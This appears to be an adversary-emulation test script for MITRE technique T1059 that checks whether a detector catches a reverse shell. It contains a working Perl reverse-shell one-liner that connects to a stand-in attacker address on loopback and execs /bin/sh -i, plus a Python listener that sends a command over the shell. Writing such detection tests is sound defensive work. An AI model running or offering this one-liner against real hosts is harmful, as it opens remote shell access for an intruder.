# technique: T1059
# tactic: execution
# name: Perl one-liner reverse shell (socket + exec /bin/sh -i) to a listener
# expect: detected
. "$EMULATION_LIB"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need perl python3 ip
loopback_up
# The "attacker" address lives on this namespace's private loopback, so nothing leaves the box.
ip addr add 198.51.100.7/32 dev lo

# Attacker side (in real life another machine): a one-shot listener that types a command into the
# shell and records the answer. It calls listen() without bind(), so the kernel picks the port and this
# stand-in for the attacker's machine raises no alert of its own: what fires is the victim side.
python3 -c '
import socket
s = socket.socket(); s.listen(1); s.settimeout(8)
open("port.tmp", "w").write(str(s.getsockname()[1])); __import__("os").rename("port.tmp", "port")
c, _ = s.accept(); c.settimeout(5)
c.sendall(b"id; exit\n")
out = b""
try:
    while True:
        d = c.recv(4096)
        if not d: break
        out += d
except socket.timeout:
    pass
open("session.log", "wb").write(out)
' &
listener=$!
trap 'kill "$listener" 2>/dev/null || true' EXIT
i=0; while [ ! -e port ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
port=$(cat port)

# Victim side: the pentestmonkey Perl one-liner.
perl -e 'use Socket;$i="198.51.100.7";$p='"$port"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true

wait $listener || true
grep -q 'uid=' session.log
